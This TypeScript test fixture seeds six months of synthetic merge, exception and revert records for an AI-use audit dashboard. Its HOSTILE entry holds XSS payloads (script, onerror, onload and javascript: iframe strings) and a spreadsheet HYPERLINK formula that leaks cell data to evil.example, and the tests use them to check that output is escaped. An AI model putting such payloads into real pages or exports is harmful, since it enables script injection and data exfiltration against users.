/**
 * A realistic audit trail for the dashboard tests and screenshot: six months of merges across
 * three repositories and five teams, AI use rising over time, a few bypasses, boundary exceptions
 * granted by security, reverts recorded by later PRs — plus two named merges the tests open and
 * one hostile merge whose title, note and path try to inject markup and spreadsheet formulas.
 * Written through the store's public writers (recordMerge, recordException, recordRevert).
 */
import { createHash } from "node:crypto";
import type { AuditStore, MergeRecordInput, ReviewerNoteRecord } from "../../../src/audit/audit-store.js";
import type { DisclosureLevel } from "../../../src/policy/snapshot.js";
import { prng } from "../../../tools/demo/prng.mjs";

/** The tests' clock: a Friday afternoon. */
export const SEED_NOW = new Date("2026-11-20T15:00:00.000Z");
const DAY = 86_400_000;

export const sha = (seed: string) => createHash("sha256").update(seed).digest("hex").slice(0, 40);

/** The merge the browser test filters to and opens. */
export const CAPTURE_MERGE = { repo: "acme/payments-api", prNumber: 412, title: "Retry failed card captures with idempotency keys" };
/** A merge that bypassed the gate, carried an exception and was reverted. */
export const BYPASS_MERGE = { repo: "acme/payments-api", prNumber: 398, revertedBy: 405 };

export const HOSTILE = {
  repo: "acme/web",
  prNumber: 666,
  title: `<script>window.__xss=1</script><img src=x onerror="window.__xss=2">"'&amp;`,
  formulaTitle: `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
  note: `Verified: "><svg onload="window.__xss=3"></svg><iframe src="javascript:window.__xss=4"></iframe> checked it`,
  path: `src/ui/<b onmouseover="window.__xss=5">evil</b>.tsx`,
  tool: `claude"><script>window.__xss=6</script>`,
};

interface RepoShape {
  repo: string;
  areas: { paths: string[]; team: string; boundary?: { name: string; action: string } }[];
}

const REPOS: RepoShape[] = [
  {
    repo: "acme/payments-api",
    areas: [
      {
        paths: ["src/payments/capture/charge.ts", "src/payments/capture/retry.ts", "src/payments/refunds/refund.ts"],
        team: "@acme/payments",
        boundary: { name: "billing", action: "require_approval" },
      },
      { paths: ["src/auth/session.ts", "src/auth/oauth/callback.ts"], team: "@acme/security", boundary: { name: "auth", action: "block" } },
      { paths: ["src/api/routes.ts", "test/api/routes.test.ts", "docs/api.md"], team: "@acme/platform" },
    ],
  },
  {
    repo: "acme/web",
    areas: [
      { paths: ["src/ui/checkout/Form.tsx", "src/ui/checkout/Summary.tsx", "src/ui/account/Settings.tsx"], team: "@acme/web" },
      { paths: ["src/lib/analytics.ts", "package.json"], team: "@acme/platform" },
    ],
  },
  {
    repo: "acme/infra",
    areas: [
      {
        paths: ["terraform/prod/main.tf", "k8s/payments/deployment.yaml", ".github/workflows/deploy.yml"],
        team: "@acme/sre",
        boundary: { name: "infra", action: "block" },
      },
    ],
  },
];

const AUTHORS = ["dana", "eli", "farah", "gus", "hana", "ivan", "jo"];
const REVIEWERS = ["rev-carol", "kim", "lee", "mo", "nadia"];
const TOOLS = ["claude", "copilot", "cursor", "codex", "gemini"];
const TITLES = [
  "Handle webhook retries idempotently",
  "Tighten input validation on the settings form",
  "Add pagination to the invoices endpoint",
  "Bump the session cookie lifetime check",
  "Refactor the checkout summary component",
  "Log structured errors from the capture worker",
  "Cache the exchange-rate lookup",
  "Move deploy workflow to OIDC credentials",
  "Fix off-by-one in refund window",
  "Add metrics for failed logins",
];

function reviewer(
  login: string,
  headSha: string,
  at: string,
  counted: boolean,
  extra: Partial<ReviewerNoteRecord> = {},
): ReviewerNoteRecord {
  return {
    reviewer: login,
    reviewId: Math.abs(
      createHash("md5")
        .update(login + headSha)
        .digest()
        .readInt32BE(0),
    ),
    state: "APPROVED",
    reviewedSha: headSha,
    submittedAt: at,
    counted,
    reason: counted ? null : "stale: approved an older head",
    checklist: counted ? ["I can explain what this change does and why", "I checked its failure modes and how to roll it back"] : [],
    verified: counted ? "Verified: ran the change locally against the staging fixtures and read every changed function." : null,
    ...extra,
  };
}

export interface SeededTrail {
  merges: number;
  reverts: number;
  exceptions: number;
}

/**
 * Seeds `store`. `setClock` moves the store's `now` (recorded_at) so records look like they were
 * written when the merge happened.
 */
export async function seedAuditTrail(store: AuditStore, setClock: (time: Date) => void = () => {}): Promise<SeededTrail> {
  const random = prng(20261120);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const start = SEED_NOW.getTime() - 26 * 7 * DAY;
  const inputs: MergeRecordInput[] = [];
  const nextNumber = new Map<string, number>(REPOS.map((r) => [r.repo, 100]));

  for (let t = start + DAY / 3; t < SEED_NOW.getTime() - DAY; t += DAY * (0.45 + random() * 0.7)) {
    const shape = pick(REPOS);
    const area = pick(shape.areas);
    const n = nextNumber.get(shape.repo)!;
    nextNumber.set(shape.repo, n + 1);
    // AI use rises from about a quarter to about two thirds of merges over the six months.
    const progress = (t - start) / (SEED_NOW.getTime() - start);
    const r = random();
    const aiShare = 0.25 + 0.42 * progress;
    const level: DisclosureLevel =
      r < 0.03 ? "undisclosed" : r < 0.03 + aiShare ? pick(["assisted", "assisted", "generated", "generated", "agent"] as const) : "none";
    const bypassed = random() < 0.035;
    const needsException = area.boundary?.action === "block" && level !== "none" && !bypassed;
    inputs.push(
      mergeFor({
        repo: shape.repo,
        prNumber: n,
        title: pick(TITLES),
        mergedAt: new Date(t),
        level,
        tools: level === "none" || level === "undisclosed" ? [] : [pick(TOOLS)],
        author: pick(AUTHORS),
        reviewers: [pick(REVIEWERS)],
        paths: area.paths.slice(0, 1 + Math.floor(random() * area.paths.length)),
        team: area.team,
        boundary: area.boundary ?? null,
        bypassed,
        exception: needsException
          ? { grantedBy: "sec-erin", reason: "Reviewed with security in SEC-" + (1000 + n) + "; token handling unchanged." }
          : null,
      }),
    );
  }

  // The named merges the tests look for.
  const captureAt = new Date(SEED_NOW.getTime() - 9 * DAY);
  inputs.push(
    mergeFor({
      repo: CAPTURE_MERGE.repo,
      prNumber: CAPTURE_MERGE.prNumber,
      title: CAPTURE_MERGE.title,
      mergedAt: captureAt,
      level: "generated",
      tools: ["claude"],
      author: "dana",
      reviewers: ["rev-carol", "kim"],
      staleReviewer: "lee",
      paths: ["src/payments/capture/retry.ts", "src/payments/capture/idempotency.ts", "test/payments/capture/retry.test.ts"],
      team: "@acme/payments",
      boundary: { name: "billing", action: "require_approval" },
      bypassed: false,
      exception: null,
      note:
        "Verified: replayed 200 captured failures from the staging queue twice; " +
        "the second run created no duplicate charges. Rollback: revert, the old retry path is behind payments.retry_v2.",
    }),
  );
  const bypassAt = new Date(SEED_NOW.getTime() - 20 * DAY);
  inputs.push(
    mergeFor({
      repo: BYPASS_MERGE.repo,
      prNumber: BYPASS_MERGE.prNumber,
      title: "Hotfix: skip 3-D Secure for saved cards",
      mergedAt: bypassAt,
      level: "agent",
      tools: ["devin"],
      agent: "devin-ai-integration[bot]",
      sponsor: "gus",
      author: "devin-ai-integration[bot]",
      reviewers: [],
      paths: ["src/auth/session.ts", "src/payments/capture/charge.ts"],
      team: "@acme/security",
      boundary: { name: "auth", action: "block" },
      bypassed: true,
      exception: { grantedBy: "sec-erin", reason: "Incident INC-77: card declines spiking; time-boxed to 48 hours." },
    }),
  );
  inputs.push(
    mergeFor({
      repo: BYPASS_MERGE.repo,
      prNumber: BYPASS_MERGE.revertedBy,
      title: 'Revert "Hotfix: skip 3-D Secure for saved cards"',
      mergedAt: new Date(bypassAt.getTime() + 2 * DAY),
      level: "none",
      tools: [],
      author: "gus",
      reviewers: ["rev-carol"],
      paths: ["src/auth/session.ts", "src/payments/capture/charge.ts"],
      team: "@acme/security",
      boundary: null,
      bypassed: false,
      exception: null,
    }),
  );
  inputs.push(
    mergeFor({
      repo: HOSTILE.repo,
      prNumber: HOSTILE.prNumber,
      title: HOSTILE.title,
      mergedAt: new Date(SEED_NOW.getTime() - 3 * DAY),
      level: "assisted",
      tools: [HOSTILE.tool],
      author: "mallory",
      reviewers: ["kim"],
      paths: [HOSTILE.path],
      team: "@acme/web",
      boundary: null,
      bypassed: false,
      exception: null,
      note: HOSTILE.note,
    }),
  );
  inputs.push(
    mergeFor({
      repo: HOSTILE.repo,
      prNumber: HOSTILE.prNumber + 1,
      title: HOSTILE.formulaTitle,
      mergedAt: new Date(SEED_NOW.getTime() - 3 * DAY + 60_000),
      level: "none",
      tools: [],
      author: "mallory",
      reviewers: ["kim"],
      paths: ["src/ui/formula.ts"],
      team: "@acme/web",
      boundary: null,
      bypassed: false,
      exception: null,
    }),
  );

  inputs.sort((a, b) => a.mergedAt.localeCompare(b.mergedAt));
  let exceptions = 0;
  for (const input of inputs) {
    for (const e of input.exceptions) {
      setClock(new Date(e.grantedAt));
      await store.recordException(
        {
          repo: input.repo,
          prNumber: input.prNumber,
          boundary: e.boundary,
          grantedBy: e.grantedBy,
          reason: e.reason,
          sha: e.sha,
          commentId: e.commentId,
          action: "grant",
        },
        `seed-exception-${input.repo}-${input.prNumber}`,
      );
      exceptions += 1;
    }
    setClock(new Date(Date.parse(input.mergedAt) + 2_000));
    await store.recordMerge(input, `seed-merge-${input.repo}-${input.prNumber}`);
  }

  // Reverts: the named one, plus about one in twelve AI-assisted merges reverted a few days later.
  const reverts: { of: MergeRecordInput; by: number; at: Date }[] = [];
  const bypassInput = inputs.find((m) => m.repo === BYPASS_MERGE.repo && m.prNumber === BYPASS_MERGE.prNumber)!;
  reverts.push({ of: bypassInput, by: BYPASS_MERGE.revertedBy, at: new Date(bypassAt.getTime() + 2 * DAY) });
  for (const m of inputs) {
    if (m.source !== "webhook" || m.prNumber >= 390 || m.title.startsWith("Revert")) continue;
    const chance = m.aiLevel === "none" ? 0.03 : m.aiLevel === "agent" ? 0.16 : 0.08;
    if (random() < chance) {
      const at = new Date(Date.parse(m.mergedAt) + (1 + random() * 5) * DAY);
      if (at.getTime() > SEED_NOW.getTime()) continue;
      const by = nextNumber.get(m.repo)!;
      nextNumber.set(m.repo, by + 1);
      setClock(at);
      await store.recordMerge(
        mergeFor({
          repo: m.repo,
          prNumber: by,
          title: `Revert "${m.title}"`,
          mergedAt: at,
          level: "none",
          tools: [],
          author: m.author,
          reviewers: [pick(REVIEWERS)],
          paths: m.paths.map((p) => p.path),
          team: m.owningTeam!,
          boundary: null,
          bypassed: false,
          exception: null,
        }),
        `seed-merge-${m.repo}-${by}`,
      );
      reverts.push({ of: m, by, at });
    }
  }
  for (const r of reverts) {
    setClock(new Date(r.at.getTime() + 5_000));
    await store.recordRevert(
      {
        repo: r.of.repo,
        prNumber: r.by,
        revertedRepo: r.of.repo,
        revertedPrNumber: r.of.prNumber,
        revertedSha: r.of.mergeCommitSha,
        method: "body",
      },
      `seed-revert-${r.of.repo}-${r.by}`,
    );
  }
  return { merges: inputs.length + reverts.length - 1, reverts: reverts.length, exceptions };
}

interface MergeShape {
  repo: string;
  prNumber: number;
  title: string;
  mergedAt: Date;
  level: DisclosureLevel;
  tools: string[];
  author: string;
  reviewers: string[];
  staleReviewer?: string;
  paths: string[];
  team: string;
  boundary: { name: string; action: string } | null;
  bypassed: boolean;
  exception: { grantedBy: string; reason: string } | null;
  agent?: string;
  sponsor?: string;
  note?: string;
}

function mergeFor(s: MergeShape): MergeRecordInput {
  const key = `${s.repo}#${s.prNumber}`;
  const head = sha(`${key} head`);
  const at = s.mergedAt.getTime();
  const iso = (ms: number) => new Date(ms).toISOString();
  const reviewers = s.reviewers.map((login) =>
    reviewer(login, head, iso(at - 3_600_000), true, s.note && login === s.reviewers[0] ? { verified: s.note } : {}),
  );
  if (s.staleReviewer) reviewers.push(reviewer(s.staleReviewer, sha(`${key} older head`), iso(at - 86_400_000), false));
  const disclosureSources =
    s.level === "none" || s.level === "undisclosed"
      ? s.level === "none"
        ? [{ tool: null, where: "body", detail: "AI-Assisted: none" }]
        : []
      : [
          { tool: null, where: "body", detail: `AI-Assisted: ${s.level === "agent" ? "generated" : s.level}` },
          ...s.tools.map((tool) => ({
            tool,
            where: "trailer",
            sha: sha(`${key} c1`),
            detail: `Co-authored-by: ${tool} <noreply@${tool}.example>`,
          })),
          ...(s.agent ? [{ tool: s.tools[0] ?? null, where: "author", detail: `PR opened by ${s.agent}` }] : []),
        ];
  const blocked = s.boundary?.action === "block" && s.level !== "none";
  return {
    repo: s.repo,
    prNumber: s.prNumber,
    title: s.title,
    author: s.author,
    headSha: head,
    baseRef: "main",
    baseSha: sha(`${key} base`),
    mergeCommitSha: sha(`${key} merge`),
    mergedBy: s.reviewers[0] ?? s.sponsor ?? "lead-bob",
    mergedAt: iso(at),
    aiLevel: s.level,
    aiTools: s.tools,
    disclosureSources,
    agent: s.agent ?? null,
    sponsor: s.sponsor ?? null,
    reviewers,
    owningTeam: s.team,
    teams: [{ team: s.team, files: s.paths.length }],
    paths: s.paths.map((path) => ({ path, previousPath: null, status: "modified" })),
    boundaries: s.boundary
      ? [{ name: s.boundary.name, action: s.boundary.action, outcome: s.exception ? "exception" : blocked ? "blocked" : "passed" }]
      : [],
    exceptions: s.exception
      ? [
          {
            boundary: s.boundary?.name ?? "auth",
            grantedBy: s.exception.grantedBy,
            reason: s.exception.reason,
            sha: head,
            commentId: 1_900_000_000 + s.prNumber,
            grantedAt: iso(at - 7_200_000),
          },
        ]
      : [],
    checkConclusion: s.bypassed ? "failure" : "success",
    bypassed: s.bypassed,
    commitShas: [sha(`${key} c1`), head],
    configHash: sha("countersign.yml v3") + sha("x").slice(0, 24),
    source: "webhook",
  };
}
